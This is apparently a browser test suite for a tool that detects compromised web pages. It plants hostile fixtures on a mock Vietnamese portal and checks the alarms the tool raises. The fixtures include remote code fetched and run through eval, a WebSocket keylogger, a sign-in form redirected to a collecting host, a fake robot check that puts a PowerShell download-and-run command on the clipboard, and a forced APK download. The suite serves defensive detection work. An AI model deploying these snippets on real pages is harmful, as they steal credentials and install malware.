/** In the real browser: what hostile pages do is judged as written, and ordinary widgets are no alarm and no news once learned. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Capture, ReadCapture } from '../../../src/core/domain/capture.ts';
import type { Verdict } from '../../../src/core/domain/finding.ts';
import { type Look, lookAt } from '../../../src/core/facts/look.ts';
import { assess } from '../../../src/core/judge/assess.ts';
import { acceptLook, type Baseline } from '../../../src/core/learned/baseline.ts';
import { learned } from '../../support/detecting.ts';
import { type NamedHosts, serveNamedHosts } from '../../support/named-hosts.ts';
import { testPolicy } from '../../support/policy.ts';
import { portalPage } from '../../support/portal-pages.ts';
import { type Widget, widgets } from '../../support/widgets.ts';

const home = 'https://cong.example/';
const script = (code: string) => `<script>${code}</script>`;
const signIn = '<form id="dn" action="/dang-nhap"><input name="u"><input type="password" name="p"></form>';

interface Hostile {
  readonly markup?: string;
  /** Added to the portal's own script file. */
  readonly own?: string;
  readonly answers?: Widget['answers'];
  readonly level: Verdict['level'];
  /** Cues, or detectors without any, that must have spoken. */
  readonly cues: readonly string[];
  readonly click?: 'ground' | 'layer';
}

const hostile: Readonly<Record<string, Hostile>> = {
  'a picture of a new host': {
    markup: '<img src="https://anh.la.example/a.png" width="10" height="10">',
    level: 'clean',
    cues: ['hosts-contacted.other'],
  },
  'a script of a new host': {
    markup: '<script src="https://js.la.example/m.js"></script>',
    answers: { 'js.la.example/m.js': 'window.m = 1' },
    level: 'suspect',
    cues: ['hosts-contacted.script'],
  },
  'code fetched from a public node and run': {
    markup: script(
      `fetch('https://rpc.nut.example/', { method: 'POST', body: '{}' }).then((r) => r.text()).then((t) => (0, eval)(t))`,
    ),
    answers: { 'rpc.nut.example/': 'window.taken = document.cookie.length; document.body.dataset.run = "1"' },
    level: 'alarm',
    cues: ['talks-away.made-code', 'code-made.first'],
  },
  'the same out of the portal’s own script file': {
    own: `fetch('https://rpc.nut.example/').then((r) => r.text()).then((t) => new Function(t)())`,
    answers: { 'rpc.nut.example/': 'window.taken = document.cookie.length; document.body.dataset.run = "1"' },
    level: 'alarm',
    cues: ['talks-away.made-code', 'code-made.first'],
  },
  'a beacon by the portal’s own script to a new host': {
    own: `navigator.sendBeacon('https://dem.la.example/b', JSON.stringify({ trang: location.pathname }))`,
    level: 'clean',
    cues: ['hosts-contacted.sent'],
  },
  'code that comes with an event stream': {
    own: `new EventSource('https://luong.la.example/s').onmessage = ({ data }) => new Function(data)()`,
    answers: { 'luong.la.example/s': 'data: document.body.dataset.run = document.cookie.length\n\n' },
    level: 'alarm',
    cues: ['talks-away.made-code', 'code-made.first'],
  },
  'what people type sent over a WebSocket': {
    markup: script(
      `const w = new WebSocket('wss://dem.la.example/s'); document.addEventListener('input', (e) => w.send(JSON.stringify({ n: e.target.name, v: e.target.value })), true)`,
    ),
    level: 'alarm',
    cues: ['talks-away.new-script', 'hosts-contacted.sent'],
  },
  'code that unpacks itself': {
    own: `eval("var _0x3fa1=['\\\\x68\\\\x74\\\\x74\\\\x70','\\\\x68\\\\x72\\\\x65\\\\x66'];(function(a,b){window.q=a[b]})(_0x3fa1,1)")`,
    level: 'suspect',
    cues: ['code-made.first', 'code-made.hidden'],
  },
  'a hidden frame by the portal’s own script': {
    own: `const f = document.createElement('iframe'); f.src = 'https://khung.la.example/'; f.style.display = 'none'; document.body.append(f)`,
    answers: { 'khung.la.example/': '<p>x</p>' },
    level: 'suspect',
    cues: ['planted-elements.hidden'],
  },
  'a frame over the page by the portal’s own script': {
    own: `const f = document.createElement('iframe'); f.src = 'https://khung.la.example/'; f.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;border:0'; document.body.append(f)`,
    answers: { 'khung.la.example/': '<h1>Nhà cái</h1>' },
    level: 'alarm',
    cues: ['planted-elements.cover'],
  },
  'links to strangers that the portal’s own script adds beyond the edge': {
    own: `const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:-9999px'; d.innerHTML = ['mot', 'hai', 'ba', 'bon'].map((n) => '<a href="https://' + n + '-la.example/">' + n + '</a>').join(' '); document.body.append(d)`,
    level: 'alarm',
    cues: ['links-added.learned.much-hidden', 'links-added.learned.hidden-flock'],
  },
  'a layer by the portal’s own script whose button leads to strangers': {
    own: `const d = document.createElement('div'); d.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999'; d.innerHTML = '<h2>Chúc mừng quý khách đã được chọn nhận quà tri ân</h2><a href="https://qua-tang.example/nhan">Nhận quà</a>'; document.body.append(d)`,
    click: 'layer',
    // An alarm in use, where the picture counts too; here only behaviour and markup do.
    level: 'suspect',
    cues: ['covering-layer.foreign-links'],
  },
  'visitors led away as soon as the page is open': {
    own: `setTimeout(() => { location.href = 'https://dich.la.example/' }, 300)`,
    answers: { 'dich.la.example/': '<h1>Trang khác</h1>' },
    level: 'alarm',
    cues: ['foreign-redirect'],
  },
  'visitors led away at the first click anywhere': {
    own: `addEventListener('click', () => { location.href = 'https://dich.la.example/' })`,
    click: 'ground',
    level: 'alarm',
    cues: ['windows-opened.by-click'],
  },
  'a box that must be answered': {
    own: `alert('Trình duyệt của bạn đã hết hạn, nhấn OK để tiếp tục')`,
    level: 'suspect',
    cues: ['dialog-shown.first'],
  },
  'a window that opens by itself': {
    own: `window.open('https://quang-cao.example/pop')`,
    level: 'suspect',
    cues: ['windows-opened.foreign'],
  },
  'a window that opens at the first click anywhere': {
    own: `document.addEventListener('click', () => window.open('https://quang-cao.example/pop'), { once: true })`,
    click: 'ground',
    level: 'alarm',
    cues: ['windows-opened.by-click'],
  },
  'a page that holds the back button': {
    own: `for (let i = 0; i < 20; i++) history.pushState(i, '', '#' + i); addEventListener('popstate', () => history.forward())`,
    level: 'suspect',
    cues: ['history-filled.many', 'history-filled.held'],
  },
  'a command behind a false check for robots': {
    markup: `<div style="position:fixed;inset:0;background:#fff;z-index:9999"><h3>Xác minh bạn là con người</h3><ol><li>Nhấn Windows + R</li><li>Nhấn Ctrl + V</li></ol><button id="vfb">Tôi không phải người máy</button></div>
      ${script(`vfb.addEventListener('click', () => navigator.clipboard.writeText('powershell -w h -c "iwr http://xac-minh.example/a|iex"'))`)}`,
    click: 'layer',
    level: 'alarm',
    cues: ['clipboard-written.command'],
  },
  'a text on the clipboard': {
    own: `navigator.clipboard.writeText('Kính mời quý vị ghé thăm').catch(() => {})`,
    level: 'suspect',
    cues: ['clipboard-written.first'],
  },
  'notifications and a service worker by a new host': {
    markup: '<script src="https://day.la.example/push.js"></script>',
    answers: {
      'day.la.example/push.js': `navigator.serviceWorker.register('/sw.js').catch(() => {}); Notification.requestPermission()`,
    },
    level: 'alarm',
    cues: ['hosts-contacted.script', 'rights-asked.notifications', 'rights-asked.service-worker'],
  },
  'notifications asked for by the portal’s own script': {
    own: `navigator.serviceWorker.register('/sw.js').catch(() => {}); Notification.requestPermission()`,
    level: 'suspect',
    cues: ['rights-asked.notifications', 'rights-asked.service-worker'],
  },
  'a sign-in form turned to a stranger': {
    own: `document.getElementById('dn').action = 'https://thu-thap.example/luu'`,
    level: 'alarm',
    cues: ['form-retargeted.password'],
  },
  'a program downloaded with the page': {
    own: `const a = document.createElement('a'); a.href = 'https://tai.la.example/dinh-danh.apk'; a.download = ''; document.body.append(a); a.click()`,
    level: 'alarm',
    cues: ['download-started.program'],
  },
  'code without end': {
    own: `for (let i = 0; i < 400; i++) eval('window.a' + i + '_ = document.title + ' + i)`,
    level: 'suspect',
    cues: ['record-overflowed', 'code-made.first'],
  },
};

/** The matrix as measured, printed at the end for docs/measurements.md. */
const rows: string[][] = [];
let hosts: NamedHosts;
let plain: Baseline;

function answer({ host, pathname, searchParams }: URL) {
  const name = searchParams.get('w') ?? '';
  const widget = widgets[name];
  const one = hostile[name];
  if (host === 'cong.example' && pathname === '/') {
    const extra = `${signIn}<script src="/js/trang.js?w=${encodeURIComponent(name)}"></script>${widget?.markup ?? one?.markup ?? ''}`;
    return { type: 'text/html; charset=utf-8', body: portalPage({ extra }) };
  }
  if (pathname === '/js/trang.js') return { type: 'text/javascript', body: `window.trang = 1;${one?.own ?? ''}` };
  const body = answers.get(`${host}${pathname}`);
  if (body === undefined) return pathname.endsWith('.apk') ? { type: 'application/octet-stream', body: 'PK' } : null;
  const isMarkup = /^\s*</.test(body);
  const type = isMarkup
    ? 'text/html'
    : body.startsWith('data: ')
      ? 'text/event-stream'
      : body.startsWith('@')
        ? 'text/css'
        : body === '{}'
          ? 'application/json'
          : 'text/javascript';
  return { type: `${type}; charset=utf-8`, body };
}
const answers = new Map(
  [...Object.values(widgets), ...Object.values(hostile)].flatMap((one) => Object.entries(one.answers ?? {})),
);

const seen = async (name: string, click: 'ground' | 'layer' = 'ground'): Promise<Look> => {
  const capture: Capture = await hosts.look(`${home}?w=${encodeURIComponent(name)}`, { click });
  return lookAt({ ...capture, html: capture.html ?? '' } satisfies ReadCapture, null);
};
const judged = (look: Look, baseline: Baseline): Verdict =>
  assess({ targetUrl: home, at: 9, baseline, ignored: [] }, { looks: [look], failures: [] }, testPolicy).verdict;
const cuesOf = ({ findings }: Verdict) =>
  findings.flatMap(({ cues = [], detector, score }) => (score > 0 ? (cues.length > 0 ? cues : [detector]) : []));

beforeAll(async () => {
  hosts = await serveNamedHosts(answer);
  plain = learned([await seen(''), await seen('')]);
});
afterAll(async () => {
  console.log(rows.map((row) => `| ${row.join(' | ')} |`).join('\n'));
  await hosts.close();
});

it('the portal as it is learned is quiet', async () => {
  const verdict = judged(await seen(''), plain);
  expect([verdict.level, cuesOf(verdict)]).toEqual(['clean', []]);
});

describe('hostile', () => {
  it.each(Object.entries(hostile))('%s', async (name, { level, cues, click }) => {
    const verdict = judged(await seen(name, click), plain);
    rows.push([name, `${verdict.level} ${verdict.score}`, cuesOf(verdict).join(', ')]);
    expect(cuesOf(verdict)).toEqual(expect.arrayContaining([...cues]));
    expect([verdict.level, verdict.score]).toEqual([level, expect.any(Number)]);
  });
});

describe('ordinary', () => {
  it.each(Object.keys(widgets))('%s: no alarm when it appears, quiet once accepted', async (name) => {
    const look = await seen(name);
    const verdict = judged(look, plain);
    // Spam by push comes just so: only one that was there before is ordinary.
    if (name !== 'push opt-in') expect(['clean', 'suspect']).toContain(verdict.level);
    const again = judged(await seen(name), acceptLook(plain, look, 2));
    rows.push([`widget: ${name}`, `${verdict.level} ${verdict.score}`, cuesOf(verdict).join(', ')]);
    expect([again.level, cuesOf(again)]).toEqual(['clean', []]);
  });
});
